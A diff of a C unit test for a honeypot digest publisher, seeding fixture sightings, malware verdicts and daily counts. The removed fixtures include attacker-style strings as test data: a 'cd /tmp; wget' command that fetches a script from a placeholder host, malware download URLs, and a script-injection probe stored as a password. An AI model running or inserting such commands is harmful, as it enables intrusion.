@@ -6,154 +6,12 @@
 #include "common/base/calendar.h"
 #include "publisher/posts/digest/digest.h"
 #include "tests/unit/golden.h"
-#include "tests/unit/with_db.h"
-
-#define DAY 86400
-#define HOUR 3600
-#define MIDNIGHT 1795219200 /* 21 November 2026 00:00 UTC, a Saturday */
+#include "tests/unit/with_digest.h"
 
 static struct err e;
 static struct gate *gate;
 
-/* ---- what happened */
-
-static void
-capture(int sample, const char *ip, const char *url, int64_t at)
-{
-	static int n;
-
-	sql("INSERT INTO sighting (event_key, sample_id, source, profile, honeypot, "
-	    "action, src_ip, src_country, url, event_at, collected_at, seen_at) "
-	    "VALUES ('1-%d', %d, 'main', 'cowrie', 'Cowrie', 'download', '%s', 'NL', "
-	    "%s%s%s, %lld, %lld, %lld)",
-	    n++, sample, ip, url[0] != '\0' ? "'" : "NULL", url,
-	    url[0] != '\0' ? "'" : "", (long long)at, (long long)at + 30, (long long)at);
-}
-
-static void
-answer(int sample, const char *verdict, const char *family, int malicious)
-{
-	sql("INSERT INTO analysis (lookup_id, sample_id, fetched_at, outcome, verdict, "
-	    "family, malicious, undetected, last_analysis_at) SELECT id, %d, %d, '%s', "
-	    "'%s', nullif('%s', ''), %d, %d, nullif(%d, 0) FROM lookup WHERE sample_id = "
-	    "%d",
-	    sample, MIDNIGHT + HOUR * sample,
-	    strcmp(verdict, "unknown") == 0 ? "not_found" : "found", verdict, family,
-	    malicious, strcmp(verdict, "unknown") == 0 ? 0 : 72 - malicious,
-	    strcmp(verdict, "unknown") == 0 ? 0 : MIDNIGHT - DAY, sample);
-}
-
-static void
-post(int sample)
-{
-	sql("UPDATE post SET state = 'done', token = token + 1, link = "
-	    "'https://blog.example/malware-%d/', sent_title = 'Mirai trojan of my-sensor & "
-	    "[gallery] · %d', wp_id = %d WHERE sample_id = %d",
-	    sample, sample, sample, sample);
-}
-
-static void
-count(const char *dimension, const char *value, const char *label, int64_t events,
-    int64_t sources)
-{
-	sql("INSERT INTO day_count SELECT max(id), '%s', '%s', nullif('%s', ''), %lld, "
-	    "%lld FROM day",
-	    dimension, value, label, (long long)events, (long long)sources);
-}
-
-/* The days of November, each counted at six in the morning after. */
-static void
-count_day(int date, int64_t events)
-{
-	int64_t from = MIDNIGHT + (date - 21) * DAY;
-
-	sql("INSERT INTO day (source, date, zone, from_at, to_at, look_at, counted_at, "
-	    "complete, events, sources, loudest) VALUES ('main', '2026-11-%02d', 'UTC', "
-	    "%lld, %lld, 0, %lld, 1, %lld, %lld, %lld)",
-	    date, (long long)from, (long long)from + DAY,
-	    (long long)from + DAY + 6 * HOUR, (long long)events, (long long)events / 14,
-	    (long long)events / 9);
-}
-
-static void
-count_values(int64_t events)
-{
-	static const char *const HONEYPOTS[] = { "Cowrie", "Honeytrap", "Dionaea",
-		"Sentrypeer", "Heralding", "H0neytr4p", "Tanner", "Redishoneypot",
-		"Adbhoney", "Ciscoasa", "Mailoney", "ElasticPot" };
-	static const char *const PORTS[] = { "445", "5060", "22", "5900", "80", "443" };
-	static const char *const COUNTRIES[] = { "US", "CN", "VN", "BR", "TW", "ZZ" };
-	char hour[4];
-
-	for (int i = 0; i < 12; i++)
-		count("honeypot", HONEYPOTS[i], "", events / (i + 2),
-		    events / 15 / (i + 1));
-	for (int i = 0; i < 6; i++)
-		count("port", PORTS[i], "", events / (i + 3), events / 20);
-	for (int i = 0; i < 6; i++)
-		count("country", COUNTRIES[i], "", events / (i + 3), 812 / (i + 1));
-	for (int i = 0; i < 24; i++) {
-		snprintf(hour, sizeof hour, "%02d", i);
-		count("hour", hour, "", events / 24 + (i == 14 ? 4000 : i), 0);
-	}
-	count("hour", "14 Cowrie", "", 5200, 0);
-	count("hour", "14 Dionaea", "", 600, 0);
-	count("hour", "03 Honeytrap", "", 2000, 0);
-	count("asn", "64500", "Example Hosting <b>", events / 3, 100);
-}
-
-static void
-count_texts(void)
-{
-	count("user", "root", "", 900, 200);
-	count("user", "admin-of-my-sensor", "", 80, 5);
-	count("user", "the-operator", "", 70, 4);
-	count("password", "123456", "", 212, 60);
-	count("password", "[gallery] <script>alert(1)</script>", "", 145, 50);
-	count("password", "http://203.0.113.10/x", "", 40, 6);
-	count("command", "cd /tmp; wget http://198.51.100.66/x.sh", "", 118, 30);
-	count("command", "echo secret of one victim", "", 300, 1);
-	count("cve", "CVE-2021-44228", "", 31, 9);
-	count("signature", "ET SCAN Suspicious inbound to MSSQL port 1433", "", 55, 20);
-}
-
-/* A week in which nothing is missing, its last days with files. */
-static void
-fill(void)
-{
-	db_fresh();
-	for (int i = 1; i <= 12; i++)
-		sql("INSERT INTO sample (sha256) VALUES ('%064x')", i);
-	for (int i = 1; i <= 9; i++)
-		for (int n = 0; n < 3 + i % 4; n++)
-			capture(i, "198.51.100.23",
-			    i < 4    ? "http://198.51.100.66/bins/x.arm7"
-			    : i == 4 ? "http://203.0.113.10:8080/wget.sh"
-				     : "",
-			    MIDNIGHT + i * HOUR + n);
-	capture(10, "198.51.100.23", "", MIDNIGHT - 3 * DAY);
-	capture(10, "198.51.100.23", "", MIDNIGHT + 5 * HOUR);
-	for (int i = 1; i <= 3; i++)
-		answer(i, "malicious", "mirai", 40 + i);
-	answer(4, "malicious", "", 9);
-	answer(5, "unknown", "", 0);
-	answer(6, "suspicious", "", 3);
-	answer(10, "malicious", "gafgyt", 44);
-	sql("UPDATE lookup SET state = 'skipped' WHERE sample_id = 7");
-	post(2);
-	post(5);
-	for (int date = 9; date <= 22; date++) {
-		count_day(date, 50000 + date * (date == 21 ? 900 : 300));
-		count_values(50000 + date * (date == 21 ? 900 : 300));
-		count_texts();
-	}
-	sql("INSERT INTO quota (provider, account, period, used, allowed) VALUES ('virustotal', 'main', '2026-11-21', 31, 500), "
-	    "('virustotal', 'main', '2026-11-20', 500, 500), ('virustotal', 'main', "
-	    "'2026-11', 531, 15500)");
-	sql("INSERT INTO post (kind, key, slug, link) VALUES ('digest', "
-	    "'day-2026-11-20', 'digest-day-2026-11-20', "
-	    "'https://blog.example/digest-day-2026-11-20/')");
-}
+/* ---- what else happened */
 
 /* The same without the counts of the day. */
 static void
@@ -242,28 +100,94 @@ fill_only_flood(void)
 	sql("DELETE FROM sighting WHERE sample_id < 20");
 }
 
+/* Eight weeks counted by two sensors, the last days busier; a port and two families that are new; files that
+ * turned out to be malicious; a sensor and a honeypot that fell silent. */
+static void
+fill_history(void)
+{
+	fill();
+	sql("BEGIN");
+	sql("DELETE FROM day");
+	for (int date = -35; date <= 22; date++) {
+		count_day(date, 50000 + (date > 15 ? 900 : 100) * ((date + 5) % 7));
+		count_values(50000 + (date > 15 ? 900 : 100) * ((date + 5) % 7));
+		count("sensor", "hive-of-my-sensor", "", 30000, 900);
+		count("sensor", "other", "", 20000, 900);
+		count("port", "9999", "", date > 15 ? 3000 : 0, 90);
+		count("port", "6379", "", date > 15 ? 9000 : 2500, 90);
+		sql("DELETE FROM day_count WHERE events = 0");
+	}
+	sql("INSERT INTO cursor (source, index_name, index_uuid, shard, position, checkpoint, "
+	    "checkpoint_at, settled_at, start_at, start_until) VALUES ('main', 'logstash', "
+	    "'', -1, -1, -1, 0, 0, %d, -1)",
+	    MIDNIGHT - 60 * DAY);
+	capture(12, "198.51.100.23", "", MIDNIGHT - 9 * DAY);
+	answer(12, "malicious", "xorddos", 51);
+	answer(5, "malicious", "kaiji", 21);
+	answer(6, "malicious", "", 12);
+	sql("UPDATE analysis SET first_submission_at = %d WHERE sample_id < 3",
+	    MIDNIGHT + 4 * HOUR);
+	sql("UPDATE analysis SET pua = 1, family = 'xmrig' WHERE sample_id = 4");
+	sql("UPDATE analysis SET test_file = 1, family = 'eicar' WHERE sample_id = 3");
+	sql("INSERT INTO silence VALUES ('main', 'sensor', 'hive-of-my-sensor', %d, 0, %d, "
+	    "NULL), ('main', 'honeypot', 'Dicompot', %d, 0, %d, NULL)",
+	    MIDNIGHT - DAY, MIDNIGHT, MIDNIGHT - DAY, MIDNIGHT);
+	sql("COMMIT");
+}
+
+/* The same, with a third sensor since the nineteenth. */
+static void
+fill_sensor(void)
+{
+	fill_history();
+	sql("INSERT INTO day_count SELECT id, 'sensor', 'third', NULL, 9000, 90 FROM day "
+	    "WHERE date >= '2026-11-19'");
+}
+
+/* ... that was away for a day. */
+static void
+fill_sensors(void)
+{
+	fill_sensor();
+	sql("DELETE FROM day_count WHERE value = 'third' AND day_id = (SELECT id FROM day "
+	    "WHERE date = '2026-11-20')");
+}
+
 /* ---- the cases */
 
 static const struct {
 	const char *name, *key, *zone;
 	void (*fill)(void);
 	int64_t from_at, to_at;
+	bool plain; /* without pictures */
 } CASES[] = {
-	{ "digest-day", "day-2026-11-21", "UTC", fill, MIDNIGHT, MIDNIGHT + DAY },
+	{ "digest-day", "day-2026-11-21", "UTC", fill, MIDNIGHT, MIDNIGHT + DAY, false },
 	{ "digest-not-counted", "day-2026-11-21", "UTC", fill_not_counted, MIDNIGHT,
-	    MIDNIGHT + DAY },
-	{ "digest-quiet", "day-2026-11-21", "UTC", fill_quiet, MIDNIGHT, MIDNIGHT + DAY },
-	{ "digest-first", "day-2026-11-21", "UTC", fill_first, MIDNIGHT, MIDNIGHT + DAY },
-	{ "digest-floods", "day-2026-11-21", "UTC", fill_floods, MIDNIGHT,
-	    MIDNIGHT + DAY },
+	    MIDNIGHT + DAY, false },
+	{ "digest-quiet", "day-2026-11-21", "UTC", fill_quiet, MIDNIGHT, MIDNIGHT + DAY,
+	    false },
+	{ "digest-first", "day-2026-11-21", "UTC", fill_first, MIDNIGHT, MIDNIGHT + DAY,
+	    false },
+	{ "digest-floods", "day-2026-11-21", "UTC", fill_floods, MIDNIGHT, MIDNIGHT + DAY,
+	    true },
 	{ "digest-only-flood", "day-2026-11-21", "UTC", fill_only_flood, MIDNIGHT,
-	    MIDNIGHT + DAY },
+	    MIDNIGHT + DAY, true },
 	{ "digest-new-zone", "day-2026-11-21", "Asia/Tokyo", fill, MIDNIGHT,
-	    MIDNIGHT + 15 * HOUR },
+	    MIDNIGHT + 15 * HOUR, false },
 	{ "digest-week", "week-2026-W47", "UTC", fill, MIDNIGHT - 5 * DAY,
-	    MIDNIGHT + 2 * DAY },
+	    MIDNIGHT + 2 * DAY, false },
+	{ "digest-ranked", "day-2026-11-21", "UTC", fill_history, MIDNIGHT,
+	    MIDNIGHT + DAY, true },
+	{ "digest-compared", "week-2026-W47", "UTC", fill_history, MIDNIGHT - 5 * DAY,
+	    MIDNIGHT + 2 * DAY, true },
+	{ "digest-months", "month-2026-11", "UTC", fill_history, MIDNIGHT - 20 * DAY,
+	    MIDNIGHT + 10 * DAY, true },
+	{ "digest-sensor", "day-2026-11-21", "UTC", fill_sensor, MIDNIGHT, MIDNIGHT + DAY,
+	    true },
+	{ "digest-sensors", "week-2026-W47", "UTC", fill_sensors, MIDNIGHT - 5 * DAY,
+	    MIDNIGHT + 2 * DAY, true },
 	{ "digest-month", "month-2026-11", "UTC", fill, MIDNIGHT - 20 * DAY,
-	    MIDNIGHT + 10 * DAY },
+	    MIDNIGHT + 10 * DAY, false },
 };
 
 static void
@@ -304,8 +228,8 @@ check_case(size_t n, enum language language)
 {
 	const struct post_options options = { .language = language,
 		.timezone = CASES[n].zone,
-		.charts = true,
-		.map = true };
+		.charts = !CASES[n].plain,
+		.map = !CASES[n].plain };
 	char key[64];
 	struct post_row row = {
 		.key = key, .from_at = CASES[n].from_at, .to_at = CASES[n].to_at
